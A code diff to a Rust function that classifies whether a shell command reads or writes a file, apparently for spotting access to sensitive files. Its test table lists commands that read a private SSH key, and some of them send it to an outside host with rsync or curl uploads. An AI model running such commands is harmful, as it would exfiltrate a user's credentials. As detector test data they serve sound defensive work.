@@ -93,7 +93,11 @@ pub(crate) fn role(text: &str, span: Span) -> Role {
         .next()
         .unwrap_or_default();
     let before = &command[..command.len() - own.len()];
-    if before.trim_end_matches([' ', '"', '\'']).ends_with('>') {
+    let sign = before.trim_end_matches([' ', '"', '\'']);
+    if sign.ends_with('<') || sign.ends_with("<>") {
+        return Role::Read;
+    }
+    if sign.ends_with('>') {
         return Role::Written;
     }
     let head = head(command);
@@ -204,8 +208,10 @@ fn last_word(before: &str) -> &str {
 /// Returns whether a file is the last argument of a command that copies, and not the only one. `own`: the beginning of
 /// the word that contains the file; `rest`: what follows the file.
 fn is_last(command: &str, own: &str, rest: &str) -> bool {
-    let is_argument =
-        |word: &&str| word.contains(char::is_alphanumeric) && !word.starts_with(['-', '>', '2']);
+    let is_argument = |word: &&str| {
+        !word.starts_with(['-', '>', '2'])
+            && word.contains(|c: char| c.is_alphanumeric() || matches!(c, '.' | '~' | '/' | '*'))
+    };
     let before = &command[..command.len() - own.len()];
     let others = before.split_whitespace().filter(is_argument).count();
     // The word itself may go on after the file.
@@ -252,6 +258,8 @@ mod tests {
             ("rsync -a ~/.ssh/id_rsa me@a.dev:/b", Role::Read),
             ("curl -F k=@$HOME/.ssh/id_rsa a.dev", Role::Read),
             ("curl -T ~/.ssh/id_rsa a.dev", Role::Read),
+            ("cp a ~/.ssh/id_rsa .", Role::Read),
+            ("tee /tmp/k < ~/.ssh/id_rsa", Role::Read),
             ("for f in $(ls ~/.ssh/id_rsa); do cat $f; done", Role::Read),
             ("ls ~/.ssh/id_rsa | xargs cat", Role::Read),
         ] {
